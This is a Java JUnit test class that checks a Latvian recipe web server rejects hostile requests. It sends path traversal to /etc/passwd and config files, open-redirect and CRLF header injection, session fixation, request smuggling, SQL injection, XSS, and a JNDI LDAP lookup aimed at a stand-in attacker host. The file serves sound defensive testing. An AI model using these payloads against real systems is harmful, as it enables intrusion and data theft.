package lv.burtnica.operation;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.HttpCookie;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.util.List;
import lv.burtnica.people.Role;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.util.unit.DataSize;

/** Requests that mean harm, against the running server. */
class HostileRequestsTest extends ServerTest {

    private static final String JSON = "application/json";
    private static final int TOO_LARGE = 3 * 1024 * 1024;

    @ParameterizedTest
    @ValueSource(strings = {"launs.example", "localhost.launs.example", "burtnica@launs.example", "127.0.0.1.launs.example"})
    void aNameThatIsNotOursGetsNoPage(String host) throws Exception {
        var answer = raw("GET /es HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n");
        assertThat(answer).matches("(?s)HTTP/1.1 (421|400) .*").doesNotContain("launs", "JSESSIONID");
    }

    @Test
    void theNamesOfThisMachineAndOfTheSettingsAreOurs() {
        var limits = new LimitSettings(DataSize.ofBytes(1), DataSize.ofBytes(1), DataSize.ofBytes(1), List.of(" Virtuve.local "));
        var names = new OwnNames("https://Receptes.Example.lv/", limits);
        assertThat(List.of("receptes.example.lv", "RECEPTES.example.lv", "localhost", "127.0.0.1", "192.168.1.5", "[::1]", "::1",
                "virtuve.local")).allMatch(names::isOwn);
        assertThat(List.of("example.lv", "receptes.example.lv.launs.example", "127.0.0.1.nip.example", "", "launs")).noneMatch(names::isOwn);
    }

    @ParameterizedTest
    @ValueSource(strings = {"X-Forwarded-Host", "X-Forwarded-Server", "X-Host", "Forwarded", "X-Original-URL", "X-Rewrite-URL"})
    void aHeaderOfAProxyThatIsNotThereLeadsNowhere(String header) throws Exception {
        var answer = ask("/jauna-recepte", header, "launs.example");
        assertThat(answer.headers().firstValue("Location")).contains("/ienakt");
        assertThat(answer.body()).doesNotContain("launs");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "/biblioteka/valoda/en?lapa=//launs.example", "/biblioteka/valoda/en?lapa=https%3A%2F%2Flauns.example",
        "/biblioteka/valoda/en?lapa=..%2F..%2F%2Flauns.example", "/biblioteka/valoda/en?lapa=%5C%5Clauns.example",
        "/biblioteka/valoda/en?lapa=receptes%0d%0aSet-Cookie:%20a=b", "/biblioteka/valoda//launs.example", "/biblioteka//launs.example/",
        "/ienakt?continue=//launs.example", "/jauna-recepte?redirect=//launs.example"})
    void noAddressLeadsAway(String address) throws Exception {
        var answer = ask(address);
        assertThat(answer.headers().firstValue("Location").orElse("/")).matches("/(?!/).*").doesNotContain("launs");
        assertThat(answer.headers().allValues("Set-Cookie")).noneMatch(cookie -> cookie.startsWith("a="));
    }

    @Test
    void signingInLeadsBackToAPageOfOursOnly() throws Exception {
        ask("/grupas?kur=//launs.example");
        var person = signIn(Role.WORKER);
        assertThat(person).isNotNull();
        assertThat(signIn("nav tādas", "nekā")).matches("/ienakt\\?.*");
    }

    @Test
    void aSessionThatSomebodyElseMadeUpIsNotTakenAndTheOneBeforeSigningInEnds() throws Exception {
        var madeUp = "DEADBEEFDEADBEEFDEADBEEFDEADBEEF";
        assertThat(raw("GET /ienakt;jsessionid=" + madeUp + " HTTP/1.1\r\nHost: localhost\r\nCookie: JSESSIONID=" + madeUp
                + "\r\nConnection: close\r\n\r\n")).doesNotContain("JSESSIONID=" + madeUp);
        ask("/ienakt");
        var before = session();
        signIn(Role.MEMBER);
        assertThat(session()).isNotEqualTo(before);
        var stolen = HttpRequest.newBuilder(at("/es")).header("Cookie", "JSESSIONID=" + before).header("Accept", "text/html").build();
        var answer = HttpClient.newHttpClient().send(stolen, BodyHandlers.ofString());
        assertThat(answer.headers().firstValue("Location")).contains("/ienakt");
    }

    @Test
    void nothingIsDoneWithoutTheSecretOfThePage() throws Exception {
        signIn(Role.COORDINATOR);
        for (var path : List.of("/", "/kopijas", "/?v-r=uidl&v-uiId=0", "/VAADIN/dynamic/resource/0/00000000-0000-0000-0000-000000000000/x")) {
            var answer = post(path, JSON, "{\"csrfToken\":\"minēts\",\"rpc\":[]}");
            assertThat(answer.statusCode() == 403 || answer.statusCode() == 404 || answer.body().contains("sessionExpired") || answer.body().contains("appError"))
                    .as(path + " " + answer.statusCode() + " " + answer.body()).isTrue();
        }
        assertThat(post("/logout", "application/x-www-form-urlencoded", "").statusCode()).isEqualTo(403);
    }

    @ParameterizedTest
    @ValueSource(strings = {"TRACE", "TRACK", "CONNECT", "PROPFIND", "PATCH", "PUT", "DELETE"})
    void aMethodThatNothingHereTakesIsRefused(String method) throws Exception {
        var status = raw(method + " /biblioteka/lv HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        assertThat(status).matches("(?s)HTTP/1.1 (4\\d\\d|501).*").doesNotContain("TRACE /");
    }

    @Test
    void aFieldOrHeaderDoesNotChangeTheMethod() throws Exception {
        assertThat(ask("/biblioteka/lv?_method=DELETE", "X-HTTP-Method-Override", "DELETE").statusCode()).isEqualTo(200);
        assertThat(post("/biblioteka/lv", "application/x-www-form-urlencoded", "_method=GET").statusCode()).isEqualTo(403);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "/illustrations/../application.properties", "/illustrations/..%2f..%2fapplication.properties", "/fonts/%2e%2e/%2e%2e/application.properties",
        "/bildes/..%2f..%2fx/small.jpg", "/bildes/%2e%2e%2f%2e%2e%2fetc%2fpasswd/large.jpg", "/VAADIN/../WEB-INF/web.xml", "/WEB-INF/web.xml",
        "/META-INF/MANIFEST.MF", "/biblioteka/lv/burtnicas/x/1/..%2f..%2fa5.pdf", "/..;/es", "/%00", "/.git/config", "/data/first-account",
        "/biblioteka/lv/receptes/%ff%fe", "/illustrations/mark.svg%00.png", "/VAADIN/build/..%5c..%5capplication.properties"})
    void noFileBesideThoseThatArePublishedIsGiven(String path) throws Exception {
        var answer = raw("GET " + path + " HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\nConnection: close\r\n\r\n");
        assertThat(answer).matches("(?s)HTTP/1.1 (302|400|403|404|500).*")
                .doesNotContain("spring.datasource", "root:", "Manifest-Version", "[core]", "HTTP/1.1 500");
    }

    @Test
    void tooMuchIsRefusedInAKindSentence() throws Exception {
        var bytes = new byte[TOO_LARGE];
        var said = HttpRequest.newBuilder(at("/?v-r=uidl&v-uiId=0")).header("Content-Type", JSON)
                .expectContinue(true).POST(BodyPublishers.ofByteArray(bytes)).build();
        var answer = browser.send(said, BodyHandlers.ofString());
        assertThat(answer.statusCode()).isEqualTo(413);
        assertThat(answer.body()).contains("Tas ir par lielu");
        assertThat(ask("/biblioteka/lv").statusCode()).isEqualTo(200);
    }

    @ParameterizedTest
    @ValueSource(strings = {"[", "{\"rpc\":[", "{\"a\":"})
    void jsonWithoutEndDoesNotHurt(String nest) throws Exception {
        ask("/ienakt");
        var answer = post("/?v-r=uidl&v-uiId=0", JSON, nest.repeat(100_000));
        assertThat(answer.body()).doesNotContain("StackOverflow", "jackson", "at com.", "at java.");
        assertThat(ask("/biblioteka/lv").statusCode()).isEqualTo(200);
    }

    @Test
    void whatIsNotHttpIsRefusedWithoutAWordAboutTheServer() throws Exception {
        var headers = "X-A: " + "a".repeat(20_000) + "\r\n";
        for (var request : List.of(
                "GET / HTTP/1.1\r\nHost: localhost\r\n" + headers + "Connection: close\r\n\r\n",
                "GET /{} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
                "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n",
                "GET / HTTP/9.9\r\nHost: localhost\r\nConnection: close\r\n\r\n",
                "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1\r\nContent-Length: 2\r\nConnection: close\r\n\r\nx",
                "POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: xchunked\r\nContent-Length: 4\r\nConnection: close\r\n\r\n0\r\n\r\n")) {
            assertThat(raw(request)).as(request.lines().findFirst().orElseThrow()).matches("(?s)HTTP/1.1 (4|5)\\d\\d.*")
                    .doesNotContain("Tomcat", "Apache", "Exception", "\tat ", "Spring");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "/biblioteka/lv/receptes?lapa=99999999999999999999", "/biblioteka/lv/receptes?lapa=-1", "/biblioteka/lv/receptes?meklet=%25%27%22%3C",
        "/biblioteka/lv/receptes?veids=%27%3B%20drop%20table%20recipe", "/biblioteka/lv/receptes/griku-putra-ar-pienu-un-bruklenem?porcijas=1e9",
        "/biblioteka/lv/receptes?meklet=%28%28%28%28%5B%2A%3F~%5E", "/kurss/1/mape.pdf?cilveki=999999999999", "/kurss/99/mape.pdf",
        "/biblioteka/lv/receptes?meklet=%24%7Bjndi%3Aldap%3A%2F%2Flauns.example%2Fa%7D", "/receptes?meklet=%3Cscript%3Ealert%281%29%3C%2Fscript%3E"})
    void anOddQuestionGetsAQuietAnswer(String address) throws Exception {
        var answer = ask(address);
        assertThat(answer.statusCode()).isLessThan(500);
        assertThat(answer.body()).doesNotContain("Exception", "\tat ", "SQL", "<script>alert", "org.spring", "whitelabel");
    }

    private String session() {
        return cookies.getCookieStore().getCookies().stream()
                .filter(cookie -> cookie.getName().equals("JSESSIONID"))
                .map(HttpCookie::getValue)
                .findFirst()
                .orElseThrow();
    }

    /** Text that would be an error page's if it told too much. */
    @Test
    void anErrorPageTellsNothing() throws Exception {
        for (var header : List.of("text/html", JSON, "text/plain", "*/*")) {
            var request = HttpRequest.newBuilder(at("/error")).header("Accept", header).build();
            var body = new String(browser.send(request, BodyHandlers.ofByteArray()).body(), StandardCharsets.UTF_8);
            assertThat(body).doesNotContain("trace", "exception", "Tomcat", "4.1.1");
        }
    }
}
